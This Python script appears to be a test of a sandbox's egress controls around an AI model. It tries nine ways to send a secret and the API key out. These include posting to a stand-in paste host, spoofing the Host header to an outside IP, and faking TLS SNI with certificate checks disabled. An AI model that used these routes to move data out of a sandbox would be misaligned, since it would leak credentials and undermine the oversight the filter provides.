"""Tries to get a secret out by the way that leads to the model: leak.py MODEL_URL MCP_URL SECRET"""

from __future__ import annotations

import http.client
import json
import os
import socket
import ssl
import sys
import urllib.error
import urllib.request
from urllib.parse import urlsplit

MODEL_URL, MCP_URL = sys.argv[1:3]
SECRET = json.dumps({"messages": [{"role": "user", "content": sys.argv[3]}]})
KEY = {"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}
MODEL, TOOLS = urlsplit(MODEL_URL), urlsplit(MCP_URL)
PATH = f"{MODEL.path}/chat/completions"
OUTSIDE = socket.gethostbyname("paste.example.org")


def by_url(url: str, headers: dict[str, str]) -> None:
    with urllib.request.urlopen(urllib.request.Request(url, SECRET.encode(), headers)) as answer:
        answer.read()


def by_address(address: str, path: str, headers: dict[str, str]) -> None:
    client = http.client.HTTPConnection(address, timeout=20)
    client.request("POST", path, SECRET, headers)
    client.getresponse().read()


def over_tls(address: str, name: str) -> None:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(socket.create_connection((address, 443), 20), server_hostname=name) as sock:
        head = f"POST {PATH} HTTP/1.1\r\nHost: {MODEL.hostname}\r\nAuthorization: {KEY['Authorization']}\r\n"
        sock.sendall(f"{head}Connection: close\r\nContent-Length: {len(SECRET)}\r\n\r\n{SECRET}".encode())
        sock.recv(1000)


WAYS = [
    lambda: by_url(f"http://{MODEL.hostname}/v1/files", KEY),
    lambda: by_url(f"http://{MODEL.hostname}{PATH}", {}),
    lambda: by_url(f"http://{MODEL.hostname}{PATH}", {"Authorization": "Bearer sk-1"}),
    lambda: by_url(f"http://{MODEL.hostname}:8080{PATH}", KEY),
    lambda: by_url(f"http://{TOOLS.hostname}/other", KEY),
    lambda: by_url(f"https://paste.example.org{PATH}", KEY),
    lambda: by_address(OUTSIDE, PATH, {**KEY, "Host": str(MODEL.hostname)}),
    lambda: by_address(OUTSIDE, f"http://{MODEL.hostname}{PATH}", KEY),
    lambda: over_tls(socket.gethostbyname(str(MODEL.hostname)), "leak.example.org"),
]

for way in WAYS:
    try:
        way()
    except (OSError, http.client.HTTPException) as error:
        print(type(error).__name__)
# Last, what is no way out: its own model, which sees all of it anyway.
by_url(f"http://{MODEL.hostname}{PATH}", {**KEY, "Content-Type": "application/json"})
print(len(WAYS))
